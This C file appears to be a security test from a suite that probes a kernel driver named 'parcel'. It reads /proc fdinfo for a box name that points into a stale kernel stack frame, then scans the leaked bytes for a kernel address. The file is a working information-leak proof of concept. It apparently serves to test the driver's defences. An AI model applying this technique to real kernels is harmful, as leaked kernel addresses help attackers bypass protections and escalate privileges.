// SPDX-License-Identifier: GPL-2.0-only
/*
 * Select a box, and ask /proc which one it is: the driver knows the name by its place on the stack
 * of a call that has long returned. What lies there now, while the answer is being written, is the
 * business of the kernel, and it is shown as the name.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

#define NAME		"letters"
#define KERNEL_SPACE	0xffff800000000000ULL

/* Where the name begins in @text, and how long it is */
static char *shown_name(int file, char *text, size_t size, size_t *length)
{
	static const char before[] = "parcel-box:\t", after[] = "\nparcel-rights:";
	char path[64], *begin, *end;
	ssize_t n;
	int info;

	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", file);
	info = open(path, O_RDONLY);
	n = read(info, text, size);
	close(info);
	begin = n > 0 ? memmem(text, n, before, strlen(before)) : NULL;
	if (!begin)
		could_not("%s does not tell the box", path);
	begin += strlen(before);
	end = memmem(begin, text + n - begin, after, strlen(after));
	if (!end)
		could_not("%s does not tell the rights", path);
	*length = end - begin;
	return begin;
}

int main(int argc, char **argv)
{
	struct parcel_select select = { };
	static char text[8192];
	__u64 word, address = 0;
	size_t length, i;
	char *name;
	int file;

	attack_begin(argc, argv);
	file = device_open();
	select.handle = named_box(file, NAME, 0600);
	must("select", device_call(file, PARCEL_IOC_SELECT, &select));
	name = shown_name(file, text, sizeof(text), &length);
	must("unlink", box_unlink(file, select.handle));
	if (length == strlen(NAME) && !memcmp(name, NAME, length))
		refused("it says \"%s\", which is the name of the box", NAME);

	for (i = 0; i + sizeof(word) <= length && !address; i += sizeof(word)) {
		memcpy(&word, name + i, sizeof(word));
		address = word >= KERNEL_SPACE ? word : 0;
	}
	if (address)
		achieved("leaks", "%zu bytes of the kernel's stack, among them an address: %#llx",
			 length, (unsigned long long)address);
	achieved("leaks", "%zu bytes of the kernel's stack, where the name should be", length);
}
